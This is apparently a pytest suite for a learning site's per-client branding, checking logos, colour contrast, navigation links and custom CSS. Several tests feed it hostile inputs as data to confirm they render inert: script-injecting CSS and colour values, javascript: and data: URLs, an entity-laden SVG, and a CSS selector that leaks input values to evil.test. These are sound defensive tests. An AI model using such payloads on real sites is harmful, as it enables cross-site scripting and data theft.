"""Branding on every page, learner2's client's own, and hostile values rendered inert."""

from __future__ import annotations

import json
import re
from urllib.parse import urlsplit

import pytest

from tests.pages import LEARNER_PAGES, PAGE_IDS, path_of
from tests.web.conftest import instance_answer, soup
from webapp.branding import (
    AA_NON_TEXT,
    AA_TEXT,
    Theme,
    contrast,
    darken_until_readable,
    known_logo_colours,
    logo_needs_plate,
    parse_hex,
    readable_on,
    svg_colours,
    theme_from,
)


def theme_stylesheet(response, browser) -> str:
    """The theme stylesheet the page links."""
    href = soup(response).find("link", href=lambda h: h and h.startswith("/branding/theme.css"))
    return browser.get(href["href"]).get_data(as_text=True)


def brand_vars(response, browser) -> dict[str, str]:
    """The CSS custom properties of the theme stylesheet the page links."""
    body = re.search(r":root\{([^}]*)\}", theme_stylesheet(response, browser)).group(1)
    return dict(part.split(":", 1) for part in body.split(";") if part)


def set_appearance(sandbox, client_id=None, **columns):
    where = "client_id IS NULL" if client_id is None else "client_id = ?"
    params = [] if client_id is None else [client_id]
    with sandbox.store.write() as conn:
        for column, value in columns.items():
            conn.execute(f"UPDATE appearance SET {column} = ? WHERE {where}", [value, *params])


@pytest.mark.parametrize("learner_page", LEARNER_PAGES, ids=PAGE_IDS)
def test_every_learner_page_wears_the_companys_branding(app, learner, learner_page):
    path = path_of(app, learner_page)
    response = learner.get(path)
    assert response.status_code == 200, path
    page = soup(response)
    assert brand_vars(response, learner)["--brand-accent"] == "#f2c200"
    assert page.select_one(".brand__logo")["src"] == "/sandbox/assets/acme-logo.svg"
    assert page.find("link", rel="icon")["href"] == "/sandbox/assets/favicon.svg"
    nav = {a.find(string=True).strip(): a["href"] for a in page.select(".company-nav a")}
    assert nav["Home"] == "/" and nav["Help Center"].startswith("https://help.acme.test")
    assert page.find("link", href=lambda h: h and h.startswith("/branding/custom.css"))


def test_text_on_the_brand_colours_is_readable(learner):
    variables = brand_vars(learner.get("/dashboard"), learner)
    for background, text in (
        ("--brand-accent", "--brand-accent-text"),
        ("--brand-secondary", "--brand-secondary-text"),
    ):
        assert contrast(variables[background], variables[text]) >= AA_TEXT
    assert contrast(variables["--brand-link"], "#ffffff") >= AA_TEXT


def test_learner2_sees_globex_branding_not_acmes(learner2):
    response = learner2.get("/dashboard")
    page = soup(response)
    assert page.select_one(".brand__logo")["src"] == "/sandbox/assets/globex-logo.svg"
    assert brand_vars(response, learner2)["--brand-accent"] != "#f2c200"
    css = learner2.get("/branding/custom.css").get_data(as_text=True)
    assert "text-transform: uppercase" in css  # Globex's own rules
    assert "f2c200" not in css.lower()  # not Acme's


def test_custom_css_is_served_sanitised_as_its_own_stylesheet(learner):
    response = learner.get("/branding/custom.css")
    assert response.mimetype == "text/css"
    css = response.get_data(as_text=True)
    assert ".site-header" in css
    assert "@import" not in css and "javascript" not in css
    page = learner.get("/dashboard").get_data(as_text=True)
    assert "@import" not in page and "fonts.acme.test" not in page


HOSTILE_CSS = (
    ".ok { color: red; background: url(javascript:alert(1)) }\n"
    "</style><script>alert(1)</script>\n"
    '@import url("https://evil.test/x.css");\n'
    ".a { background: url(javascript:alert(1)); color: red }\n"
    "input[value^='a'] { background: url(https://evil.test/leak.png) }\n"
    ".b { width: expression(alert(1)); }\n"
)


def test_hostile_custom_css_renders_inert(learner, sandbox):
    set_appearance(sandbox, custom_css=HOSTILE_CSS)
    learner.client.application.extensions["instance"].cache.clear()
    page = learner.get("/dashboard").get_data(as_text=True)
    assert "<script>alert" not in page and "evil.test" not in page
    css = learner.get("/branding/custom.css").get_data(as_text=True)
    assert css.strip() == ".ok {\n  color: red;\n}"


def test_hostile_urls_and_colours_from_the_api_render_inert(learner, sandbox):
    links = [
        {"label": "Evil", "href": "javascript:alert(1)"},
        {"label": "Sneaky", "href": "java\nscript:alert(1)"},
        {"label": "Data", "href": "data:text/html,<script>alert(1)</script>"},
        {"label": "<b>Fine</b>", "href": "/catalog"},
    ]
    set_appearance(
        sandbox,
        nav_links=json.dumps(links),
        logo_asset="javascript:alert(1)",
        favicon="data:image/svg+xml,<svg onload=alert(1)>",
        accent_color="red;}</style><script>alert(1)</script>",
        background_asset='https://x.test/a.png"); background: url(javascript:alert(1)',
    )
    learner.client.application.extensions["instance"].cache.clear()
    response = learner.get("/dashboard")
    html = response.get_data(as_text=True)
    page = soup(response)
    assert "javascript:" not in html and "<script>alert" not in html
    assert "<style" not in html  # no inline styles at all: the theme is its own stylesheet
    hrefs = [a["href"] for a in page.select(".company-nav a")]
    assert hrefs == ["/catalog"]
    assert page.select_one(".company-nav a").find(string=True) == "<b>Fine</b>"  # shown as text
    assert page.select_one(".brand__logo") is None  # no logo rather than a hostile one
    assert page.find("link", rel="icon") is None
    assert brand_vars(response, learner)["--brand-accent"] == "#1f5fbf"  # Atrium's default
    assert brand_vars(response, learner)["--brand-background"] == "none"


@pytest.mark.parametrize(
    ("value", "parsed"),
    [("#F2C200", "#f2c200"), ("abc", "#aabbcc"), ("#12345", None), ("red", None), (None, None)],
)
def test_brand_colours_are_parsed_strictly(value, parsed):
    assert parse_hex(value) == parsed


@pytest.mark.parametrize(
    "colour", ["#f2c200", "#ffffff", "#000000", "#777777", "#1b2a4a", "#00ff00"]
)
def test_any_brand_colour_gets_a_readable_text_colour(colour):
    assert contrast(colour, readable_on(colour)) >= AA_TEXT
    assert contrast(darken_until_readable(colour), "#ffffff") >= AA_TEXT


# --- The logo's plate: only where the logo would not show on the header ------------------------

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40" viewBox="0 0 100 40">{}</svg>'
)


@pytest.mark.parametrize(
    ("drawing", "colours"),
    [
        ('<text fill="#E2E8F0">GLOBEX</text>', ("#e2e8f0",)),
        ("<text>ACME</text>", ("#000000",)),  # SVG's default fill
        ('<g fill="#123"><circle r="4"/><path d="M0 0h4v4z" fill="none" stroke="red"/></g>', None),
        (
            '<g fill="#123"><circle r="4"/><path d="M0 0h4" stroke="rgb(0, 179, 164)"/></g>',
            ("#112233", "#00b3a4"),
        ),  # a one-segment path paints no fill
        (
            '<circle r="9" fill="#fff" fill-opacity="0.1"/><text fill="#111">A</text>',
            ("#111111",),
        ),  # a faint tint does not carry the shape
        (
            '<defs><linearGradient id="g"><stop stop-color="#0f172a"/></linearGradient></defs>'
            '<circle r="9" fill="url(#g)"/>',
            ("#0f172a",),
        ),
        ('<rect width="100" height="40" fill="#1b2a4a"/><text fill="#1b2a4a">A</text>', ()),
        ('<rect width="100%" height="100%" fill="url(#g)"/><text fill="#000">A</text>', ()),
        ('<image href="logo.png" width="10" height="10"/>', None),
        ("<style>text { fill: red }</style><text>A</text>", None),
        ('<text fill="hsl(0, 0%, 0%)">A</text>', None),
    ],
)
def test_svg_colours_are_read_where_they_can_be(drawing, colours):
    assert svg_colours(SVG.format(drawing)) == colours


def test_svg_with_entities_or_no_svg_is_unknown():
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    assert svg_colours(bomb) is None
    assert svg_colours("<html/>") is None and svg_colours("not xml") is None


def test_the_sandbox_logos_colours_are_read_from_their_files(app):
    with app.app_context():  # the sandbox mount names its images' folder in LOCAL_IMAGES
        _the_sandbox_logos_colours_are_read()
    assert known_logo_colours("/sandbox/assets/acme-logo.svg") is None  # no app, no folder


def _the_sandbox_logos_colours_are_read():
    assert known_logo_colours("/sandbox/assets/acme-logo.svg") == ("#1b2a4a", "#f2c200", "#0b6bcb")
    assert known_logo_colours("/sandbox/assets/globex-logo.svg") == ("#00b3a4", "#e2e8f0")
    assert known_logo_colours("/sandbox/assets/favicon.svg") == ()  # its own rounded square
    assert known_logo_colours("https://cdn.test/sandbox/assets/acme-logo.svg") is None
    assert known_logo_colours("/sandbox/assets/../seed.py") is None
    assert known_logo_colours("/sandbox/assets/missing.svg") is None


def test_a_plate_only_where_the_logo_would_not_show():
    acme, globex = ("#1b2a4a", "#f2c200", "#0b6bcb"), ("#00b3a4", "#e2e8f0")
    assert logo_needs_plate(acme, "#1b2a4a")  # its navy square and "Acme" vanish on navy
    assert not logo_needs_plate(globex, "#0f172a")  # light wordmark on a dark header
    assert not logo_needs_plate(acme, "#ffffff")  # reads on white as it is
    assert not logo_needs_plate(globex, "#ffffff")  # a white plate wouldn't help a white logo
    assert not logo_needs_plate((), "#1b2a4a")  # brings its own background
    # Unknown logos (raster, or on the instance): a plate on a dark header, none on a light one.
    assert logo_needs_plate(None, "#0f172a") and logo_needs_plate(None, "#3b4a5a")
    assert not logo_needs_plate(None, "#f4f6f8") and not logo_needs_plate(None, "#f2c200")
    for colours, header in ((acme, "#1b2a4a"), (globex, "#0f172a")):
        worst = min(contrast(c, header) for c in colours)
        assert (worst < AA_NON_TEXT) == logo_needs_plate(colours, header)


def test_theme_knows_whether_its_logo_needs_the_plate(app):
    with app.app_context():  # the sandbox's images, named by its mount in LOCAL_IMAGES
        _theme_knows_whether_its_logo_needs_the_plate()


def _theme_knows_whether_its_logo_needs_the_plate():
    assert Theme(logo="/sandbox/assets/acme-logo.svg", secondary="#1b2a4a").logo_on_plate
    assert not Theme(logo="/sandbox/assets/globex-logo.svg", secondary="#0f172a").logo_on_plate
    assert Theme(logo="https://cdn.test/logo.png", secondary="#0f172a").logo_on_plate
    assert not Theme(logo="https://cdn.test/logo.png", secondary="#fafafa").logo_on_plate
    assert not Theme(logo=None, secondary="#0f172a").logo_on_plate


def test_globex_wordmark_shows_without_a_plate_and_acmes_logo_keeps_one(learner, learner2):
    globex = learner2.get("/dashboard")
    assert "brand__logo--plate" not in soup(globex).select_one(".brand__logo")["class"]
    acme = learner.get("/dashboard")
    assert "brand__logo--plate" in soup(acme).select_one(".brand__logo")["class"]
    css = theme_stylesheet(acme, learner)
    assert ".brand__logo{background:none}" in css  # app.css's plate is off by default
    assert ".brand__logo--plate{background:#ffffff;" in css


# --- The brand background covers the page; text never sits straight on it --------------------


def test_a_backdrop_covers_the_whole_window_and_the_footer_gets_a_surface(learner2):
    css = theme_stylesheet(learner2.get("/dashboard"), learner2)
    assert "html{min-height:100%}" in css
    assert "body{background-position:center}" in css
    assert "--brand-background-size:cover" in css
    assert ".site-footer{background:var(--surface);" in css


def test_a_tiled_background_repeats_and_the_footer_gets_a_surface(learner):
    css = theme_stylesheet(learner.get("/dashboard"), learner)
    assert "background-position" not in css  # tiles repeat from the corner over any height
    assert ".site-footer{background:var(--surface);" in css


def test_without_a_background_image_the_page_needs_no_extra_surface(learner, sandbox):
    set_appearance(sandbox, background_asset=None)
    learner.client.application.extensions["instance"].cache.clear()
    css = theme_stylesheet(learner.get("/dashboard"), learner)
    assert ".site-footer" not in css and "html{" not in css


# --- The learner's client's own name ----------------------------------------------------------


def test_a_clients_learner_sees_the_clients_name(learner2):
    page = soup(learner2.get("/dashboard"))
    assert page.title.string.strip().endswith("Globex")
    assert "Globex" in page.select_one(".site-footer").get_text()
    assert "Acme" not in page.select_one(".site-footer").get_text()
    assert page.select_one(".brand__logo")["alt"] == "Globex"
    assert "Globex" in page.select_one(".company-nav")["aria-label"]


def test_the_display_name_falls_back_to_the_company(app, learner):
    assert theme_from(None).display_name == "Atrium"
    assert Theme(company_name="Acme Learning", client_name="Globex").display_name == "Globex"
    assert Theme(company_name="Acme Learning").display_name == "Acme Learning"
    company = instance_answer(app, learner, "CompanyDetails")
    with app.test_request_context():
        assert theme_from(company, "  ").display_name == "Acme Learning"
        assert theme_from(company, "Globex").display_name == "Globex"
    assert soup(learner.get("/dashboard")).title.string.strip().endswith("Acme Learning")


# --- Navigation links given as paths lead to the instance -------------------------------------


@pytest.mark.parametrize("who", ["learner", "learner2"])
def test_every_navigation_link_on_the_sandbox_answers(app, seed, who):
    from tests.web.conftest import Browser

    browser = Browser(app.test_client()).resume(seed, who)
    links = soup(browser.get("/dashboard")).select(".company-nav a")
    local = [a["href"] for a in links if not urlsplit(a["href"]).netloc]
    assert "/catalog" in local
    for href in local:
        response = browser.get(href, follow_redirects=True)
        assert response.status_code == 200, href
    stand_in = soup(browser.get("/catalog"))
    assert "/catalog" in stand_in.h1.get_text() and stand_in.html["lang"]


def test_the_sandbox_stands_in_for_every_path_the_seeded_navigation_uses(app, sandbox):
    with sandbox.store.read() as conn:
        rows = conn.execute("SELECT nav_links FROM appearance").fetchall()
    paths = {
        link["href"]
        for (links,) in rows
        for link in json.loads(links)
        if link["href"].startswith("/") and link["href"] != "/"  # "/" is Atrium's own start
    }
    assert paths
    client = app.test_client()
    for path in paths:
        assert client.get(path).status_code == 200, path


def test_navigation_paths_are_absolute_to_the_instance_in_instance_mode(app, learner, monkeypatch):
    company = instance_answer(app, learner, "CompanyDetails")
    monkeypatch.setitem(app.config, "TI_INSTANCE_URL", "https://acme.example.test/")
    with app.test_request_context():
        links = {link.label: link for link in theme_from(company).nav_links}
    assert links["Home"].href == "https://acme.example.test/"
    assert links["Catalog"].href == "https://acme.example.test/catalog"
    assert links["Help Center"].href.startswith("https://help.acme.test")
    # The instance's own pages open in place; only links the company gave as absolute go elsewhere.
    assert not links["Catalog"].external and links["Help Center"].external


def test_protocol_relative_urls_are_judged_as_absolute_urls_to_another_host(app):
    """`//evil.test/x.png` is another host, not a path of ours (issue 12, item 2): it is made
    https explicitly, so an http page never fetches it in the clear."""
    from types import SimpleNamespace

    from webapp.branding import theme_from

    link = SimpleNamespace(label="Elsewhere", href="//evil.test/page")
    settings = SimpleNamespace(
        accent_color=None, secondary_color=None, link_color=None, font=None, alt_font=None,
        logo_asset="//evil.test/logo.png", retina_logo=False, favicon="//evil.test/fav.ico",
        background_asset="//evil.test/bg.png", background_asset_tiled=False, custom_css=None,
        global_navigation_links=[link],
    )  # fmt: skip
    with app.test_request_context():
        theme = theme_from(SimpleNamespace(name="Evil", settings=settings))
    assert theme.logo == "https://evil.test/logo.png"
    assert theme.favicon == "https://evil.test/fav.ico"
    assert theme.background == "https://evil.test/bg.png"
    (nav,) = [n for n in theme.nav_links if n.label == "Elsewhere"]
    assert nav.href == "https://evil.test/page" and nav.external
